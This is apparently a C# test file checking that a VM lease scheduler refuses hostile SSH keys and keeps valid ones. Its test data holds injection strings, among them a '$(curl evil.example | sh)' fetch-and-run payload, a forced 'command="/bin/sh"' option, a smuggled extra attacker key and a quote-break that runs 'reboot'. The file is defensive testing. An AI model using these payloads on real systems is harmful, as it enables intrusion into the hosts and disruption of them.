using Google.Protobuf.WellKnownTypes;
using NodeAgent.Contract.V1;
using NodeAgent.Rpc;
using NodeAgent.Rpc.Client;
using NodeAgent.Tests.Support;

namespace NodeAgent.Tests.Scheduler;

/// <summary>SSH keys through the scheduler's real CreateLease: kept with the lease, hostile ones refused before anything is stored.</summary>
public sealed class SshKeyApiTests : IAsyncLifetime
{
    private RunningScheduler _scheduler = null!;
    private RpcChannel _channel = null!;
    private LeaseServiceClient _leases = null!;

    public async Task InitializeAsync()
    {
        _scheduler = await RunningScheduler.StartAsync();
        _channel = _scheduler.CreateChannel();
        _leases = new LeaseServiceClient(_channel);
        await new FakeAgent(_channel, "h1").RegisterAsync();
    }

    public async Task DisposeAsync()
    {
        _channel.Dispose();
        await _scheduler.DisposeAsync();
    }

    private static CreateLeaseRequest Request(params string[] keys) => new()
    {
        Image = "debian-12",
        Resources = new Resources { Vcpus = 1, MemoryBytes = 512UL << 20 },
        Duration = Duration.FromTimeSpan(TimeSpan.FromHours(1)),
        SshKeys = { keys },
    };

    public static TheoryData<string> HostileKeys() =>
    [
        SshKeys.Ed25519("alice\nssh-rsa AAAAB3NzaC1yc2E attacker"),
        SshKeys.Ed25519("alice\0"),
        SshKeys.Ed25519("</ssh_authorized_keys><user>evil"),
        SshKeys.Ed25519("$(curl evil.example | sh)"),
        "command=\"/bin/sh\" " + SshKeys.Ed25519(),
        "ssh-ed25519 AAAA'; reboot; ' alice",
        SshKeys.Line("ssh-ed25519", "ssh-rsa"),
        SshKeys.Ed25519(new string('x', 9000)),
    ];

    [Theory(Timeout = 10_000)]
    [MemberData(nameof(HostileKeys))]
    public async Task CreateLease_HostileKey_InvalidArgumentNamingTheKeyAndNothingStored(string key)
    {
        var error = await Assert.ThrowsAsync<RpcException>(() => _leases.CreateLeaseAsync(Request(SshKeys.Ed25519("good"), key)));

        Assert.Equal(StatusCode.InvalidArgument, error.Status);
        Assert.Contains("ssh_keys[1]", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("ssh_keys[0]", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', error.Message);
        Assert.DoesNotContain('\0', error.Message);
        Assert.Empty((await _leases.ListLeasesAsync(new ListLeasesRequest { IncludeEnded = true })).Leases);
    }

    [Fact(Timeout = 10_000)]
    public async Task CreateLease_SeventeenKeys_InvalidArgumentNamingTheLimit()
    {
        var keys = Enumerable.Range(0, 17).Select(i => SshKeys.Ed25519($"key{i}", fill: (byte)i)).ToArray();

        var error = await Assert.ThrowsAsync<RpcException>(() => _leases.CreateLeaseAsync(Request(keys)));

        Assert.Equal(StatusCode.InvalidArgument, error.Status);
        Assert.Contains("ssh_keys has 17 keys; at most 16", error.Message, StringComparison.Ordinal);
    }

    [Fact(Timeout = 10_000)]
    public async Task CreateLease_ValidKeys_KeptWithTheLeaseOnceEach()
    {
        var alice = SshKeys.Ed25519("alice@laptop");
        var bob = SshKeys.Ed25519("bob@desk", fill: 8);

        var lease = await _leases.CreateLeaseAsync(Request(alice, bob, alice));
        var read = await _leases.GetLeaseAsync(new GetLeaseRequest { Id = lease.Id });

        Assert.Equal([alice, bob], lease.SshKeys);
        Assert.Equal([alice, bob], read.SshKeys);
    }
}
